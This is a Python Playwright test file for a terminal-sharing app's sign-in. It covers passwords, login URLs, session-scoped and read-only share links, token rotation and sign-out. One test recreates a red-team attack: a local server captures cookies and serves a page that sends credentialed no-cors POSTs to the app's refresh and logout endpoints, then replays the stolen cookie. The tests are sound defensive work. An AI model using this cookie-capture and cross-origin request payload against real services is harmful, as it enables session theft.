"""Signing in: the password form, the server's login URL, and share links scoped to a session."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx

from tests.browser.conftest import (
    PASSWORD,
    access_token,
    create_session,
    expect,
    page_wait,
    screenshot,
    share_link,
    status,
    terminal,
    type_line,
)
from tests.conftest import UNIT, RunningServer


def share_token(srv: RunningServer, session_id: str, *extra: str) -> str:
    return share_link(srv, session_id, *extra).split("?token=", 1)[1]


def test_sign_in_with_password(auth_server: RunningServer, page: Any) -> None:
    page.goto(auth_server.url)
    password = page.get_by_label("Password")
    expect(password).to_be_visible()
    screenshot(page, "signin")

    password.fill("not the password")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("alert")).to_be_visible()
    expect(page.get_by_role("heading", name="Sessions")).to_have_count(0)

    password.fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="Sessions")).to_be_visible()
    expect(page.get_by_role("button", name="New session")).to_be_visible()

    # The tab stays signed in across reloads, and can open a terminal.
    page.reload()
    expect(page.get_by_role("heading", name="Sessions")).to_be_visible()
    page.get_by_role("button", name="New session").click()
    page.get_by_label("Command").fill("/bin/sh")
    page.get_by_role("button", name="Create").click()
    expect(status(page)).to_have_text("Connected")
    page.locator(".xterm-helper-textarea").focus()
    type_line(page, "echo signed-$((2*4))")
    expect(terminal(page)).to_contain_text("signed-8")

    page.get_by_role("link", name="Back to sessions").click()
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_label("Password")).to_be_visible()


def test_login_url_signs_in_and_leaves_the_address_bar(
    auth_server: RunningServer, page: Any, new_page: Any
) -> None:
    assert auth_server.login_url is not None
    page.goto(auth_server.login_url)
    expect(page.get_by_role("heading", name="Sessions")).to_be_visible()
    assert "login=" not in page.url
    assert refresh_cookie(page)  # bound to this browser's key, as a password sign-in is
    # Used: another browser is told how to get a new link.
    other = new_page()
    other.goto(auth_server.login_url)
    expect(other.get_by_role("alert")).to_contain_text("run `vibetunnel login-link`")
    expect(other.get_by_label("Password")).to_be_visible()


def test_share_link_opens_only_its_session(auth_server: RunningServer, page: Any) -> None:
    with auth_server.client(access_token(auth_server)) as api:
        shared = create_session(api, name="shared")
        other = create_session(api, name="private")
    token = share_token(auth_server, shared["id"])

    page.goto(f"{auth_server.url}/sessions/{shared['id']}?token={token}")
    expect(status(page)).to_have_text("Connected")
    assert "token=" not in page.url
    # A share link shows just its terminal: no way to the list.
    expect(page.get_by_role("link", name="Back to sessions")).to_have_count(0)
    page.locator(".xterm-helper-textarea").focus()
    type_line(page, "echo shared-$((5+6))")
    expect(terminal(page)).to_contain_text("shared-11")

    page.goto(f"{auth_server.url}/sessions/{other['id']}")
    expect(page.get_by_role("alert")).to_contain_text("Access refused")
    expect(page.get_by_label("Password")).to_be_visible()
    expect(page.locator(".xterm-rows")).to_have_count(0)

    # The list is not shown either: the app goes back to the one shared session.
    page.goto(auth_server.url)
    expect(page).to_have_url(f"{auth_server.url}/sessions/{shared['id']}")
    expect(status(page)).to_have_text("Connected")


def test_share_link_for_another_session_is_refused_by_the_server(
    auth_server: RunningServer, page: Any
) -> None:
    """Even a client that ignores the token's claim gets nothing: the socket closes 1008."""
    with auth_server.client(access_token(auth_server)) as api:
        shared = create_session(api, name="shared")
        other = create_session(api, name="private")
    token = share_token(auth_server, shared["id"])
    # Bypass the app's own check by storing the token without its claim being read.
    page.goto(f"{auth_server.url}/sessions/{other['id']}?token={token}")
    expect(page.get_by_role("alert")).to_contain_text("Access refused")
    expect(page.get_by_label("Password")).to_be_visible()


def refresh_cookie(page: Any) -> str | None:
    for cookie in page.context.cookies():
        if cookie["name"] == "vibetunnel_refresh":
            assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
            value: str = cookie["value"]
            return value
    return None


DEVICE_KEY = """async () => {
  const db = await new Promise((resolve, reject) => {
    const opening = indexedDB.open("vibetunnel");
    opening.onsuccess = () => resolve(opening.result);
    opening.onerror = () => reject(opening.error);
  });
  try {
    if (!db.objectStoreNames.contains("keys")) return null;
    const key = await new Promise((resolve, reject) => {
      const get = db.transaction("keys").objectStore("keys").get("device");
      get.onsuccess = () => resolve(get.result);
      get.onerror = () => reject(get.error);
    });
    if (!key) return null;
    return {extractable: key.extractable, algorithm: key.algorithm.name,
            hash: key.algorithm.hash.name, usages: key.usages};
  } finally {
    db.close();
  }
}"""
"""What this origin's IndexedDB holds of the sign-in's device key (device-key.ts), or null."""


def sign_in(page: Any, srv: RunningServer) -> None:
    page.goto(srv.url)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="Sessions")).to_be_visible()


def signed_in(page: Any) -> None:
    expect(page.get_by_role("heading", name="Sessions")).to_be_visible()
    expect(page.get_by_label("Password")).to_have_count(0)


def test_one_sign_in_serves_every_tab_and_rotates(auth_server: RunningServer, page: Any) -> None:
    sign_in(page, auth_server)
    first = refresh_cookie(page)
    assert first
    # Nothing a page script can read holds a token of a sign-in, nor the key's bytes.
    assert page.evaluate("() => sessionStorage.getItem('vibetunnel.tokens')") is None
    assert page.evaluate(DEVICE_KEY) == {
        "extractable": False,
        "algorithm": "HMAC",
        "hash": "SHA-256",
        "usages": ["sign"],
    }
    # A new tab of the same browser (a middle-click on "Open") needs no sign-in.
    tab = page.context.new_page()
    tab.goto(auth_server.url)
    signed_in(tab)
    rotated = refresh_cookie(tab)
    assert rotated and rotated != first  # each renewal rotates the refresh token
    with auth_server.client() as client:  # and the spent one is refused
        r = client.post("/api/auth/refresh", json={"refreshToken": first})
        assert r.status_code == 401
    tab.reload()  # and so does a reload
    signed_in(tab)
    assert refresh_cookie(tab) not in (first, rotated)
    tab.close()


def test_sign_out_ends_the_browser_sign_in(auth_server: RunningServer, page: Any) -> None:
    sign_in(page, auth_server)
    tab = page.context.new_page()
    tab.goto(auth_server.url)
    signed_in(tab)
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_label("Password")).to_be_visible()
    assert refresh_cookie(page) is None
    assert page.evaluate(DEVICE_KEY) is None  # the key is forgotten too
    page.reload()
    expect(page.get_by_label("Password")).to_be_visible()
    tab.reload()  # every tab of the browser is signed out
    expect(tab.get_by_label("Password")).to_be_visible()


class CookieCatcher(ThreadingHTTPServer):
    """Another local user's server, on another port of 127.0.0.1: it records the Cookie header
    of each request, and its page tries what a page of its own can against ours."""

    def __init__(self, victim: str) -> None:
        self.victim = victim
        self.seen: list[tuple[str, str]] = []  # (path, Cookie header)
        super().__init__(("127.0.0.1", 0), _Catch)
        self.thread = threading.Thread(target=self.serve_forever, daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def cookies(self) -> list[str]:
        return [cookie for _, cookie in self.seen if cookie]

    def stop(self) -> None:
        self.shutdown()
        self.server_close()
        self.thread.join(timeout=5 * UNIT)


ATTACK = """<!doctype html><title>nothing to see</title><script>
(async () => {
  for (const path of ["/api/auth/logout", "/api/auth/refresh"]) {
    try {  // no-cors: the browser sends the cookie, no custom header, and hides the answer
      await fetch(VICTIM + path, {method: "POST", mode: "no-cors", credentials: "include"});
    } catch (e) {}
  }
  await fetch("/done", {method: "POST"});
})();
</script>"""


class _Catch(BaseHTTPRequestHandler):
    server: CookieCatcher

    def _record(self) -> None:
        self.server.seen.append((self.path, self.headers.get("Cookie", "")))

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        self._record()
        page = ATTACK.replace("VICTIM", json.dumps(self.server.victim)).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def do_POST(self) -> None:  # noqa: N802
        self._record()
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        pass


def test_a_page_on_another_port_gets_no_sign_in(auth_server: RunningServer, page: Any) -> None:
    """The red team's attack: one click from the signed-in page to another local server's page
    under /api/auth. The browser sends it our cookie; it gets no token from it, by replay or
    by a no-cors request from its own page, and cannot end the sign-in."""
    sign_in(page, auth_server)
    catcher = CookieCatcher(auth_server.url)
    try:
        page.evaluate(
            "url => { const a = document.createElement('a'); a.href = url; a.textContent ="
            " 'a link in the output'; document.body.append(a); }",
            f"{catcher.url}/api/auth/steal",
        )
        page.get_by_text("a link in the output").click()
        page_wait(
            page, lambda: ("/done", "") in catcher.seen, 10 * UNIT, "the other page's requests"
        )
        stolen = next(c for c in catcher.cookies() if "vibetunnel_refresh=" in c)
    finally:
        catcher.stop()
    # Replayed by another program, as the red team did: no token, and nothing revoked.
    with httpx.Client(base_url=auth_server.url, headers={"Cookie": stolen}) as thief:
        for path in ("/api/auth/refresh", "/api/auth/logout"):
            r = thief.post(path)
            assert r.status_code == 401, (path, r.text)
            assert "accessToken" not in r.text
    # The victim's sign-in still works: back to our page, and a reload.
    page.goto(auth_server.url)
    signed_in(page)
    page.reload()
    signed_in(page)
    cookie = refresh_cookie(page)
    assert cookie and cookie not in stolen  # renewed since: the family was never revoked


def test_without_a_device_key_the_sign_in_serves_one_tab(
    auth_server: RunningServer, page: Any
) -> None:
    """An insecure context (plain HTTP beyond loopback) has no crypto.subtle: the app signs in
    without a device key, the server sets no cookie, and the sign-in lives in that tab."""
    page.context.add_init_script("Object.defineProperty(window, 'isSecureContext', {value: false})")
    sign_in(page, auth_server)
    assert refresh_cookie(page) is None
    assert page.evaluate(DEVICE_KEY) is None
    with auth_server.client(access_token(auth_server)) as api:
        create_session(api, name="seen-by-the-tab")
    expect(page.get_by_text("seen-by-the-tab")).to_be_visible()
    tab = page.context.new_page()
    tab.goto(auth_server.url)
    expect(tab.get_by_label("Password")).to_be_visible()
    page.reload()
    expect(page.get_by_label("Password")).to_be_visible()


def test_read_only_share_link_watches(auth_server: RunningServer, page: Any) -> None:
    with auth_server.client(access_token(auth_server)) as api:
        shared = create_session(
            api, name="watched", command="/bin/sh", args=["-c", "read x; echo got-$x"]
        )
    token = share_token(auth_server, shared["id"], "--read-only")
    page.goto(f"{auth_server.url}/sessions/{shared['id']}?token={token}")
    expect(status(page)).to_have_text("Connected")
    expect(page.get_by_text("read-only")).to_be_visible()
    expect(page.get_by_role("button", name="Ctrl-C")).to_have_count(0)
    page.locator(".xterm-helper-textarea").focus()
    type_line(page, "from-viewer")
    # The owner types; the viewer sees the result, and its own keystrokes never arrived.
    with auth_server.client(access_token(auth_server)) as api:
        r = api.post(f"/api/sessions/{shared['id']}/input", json={"data": "owner\n"})
        assert r.status_code == 204
    expect(terminal(page)).to_contain_text("got-owner")
    expect(terminal(page)).not_to_contain_text("from-viewer")
